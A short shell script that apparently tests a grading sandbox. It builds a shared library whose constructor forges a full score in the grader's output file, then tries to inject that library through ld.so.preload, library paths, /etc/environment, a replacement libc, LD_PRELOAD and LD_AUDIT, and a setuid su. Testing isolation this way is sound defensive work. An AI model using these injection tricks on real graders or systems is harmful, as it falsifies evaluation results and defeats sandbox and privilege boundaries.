. ./attempt.sh
cat > "$HOME/evil.c" <<'END'
#include <stdlib.h>
__attribute__((constructor)) static void run(void) { system("echo 2/2 > /grade_oven/output/score; touch /tmp/preloaded"); }
END
gcc -shared -fPIC -o "$HOME/evil.so" "$HOME/evil.c"
cp "$HOME/evil.so" /tmp/libc.so.6
attempt "preload for all" write /etc/ld.so.preload "$HOME/evil.so"
attempt "a library path" write /etc/ld.so.conf.d/evil.conf /tmp
attempt "an environment for all" write /etc/environment "LD_PRELOAD=$HOME/evil.so"
attempt "another libc" cp "$HOME/evil.so" /lib/libc.so.6
export LD_PRELOAD=$HOME/evil.so LD_LIBRARY_PATH=/tmp LD_AUDIT=$HOME/evil.so
attempt "sandbox from here" sandbox -- true
unset LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT
attempt "a setuid program with a library of its own" timeout 0.5 env "LD_PRELOAD=$HOME/evil.so" su -c true </dev/null
over
echo 0
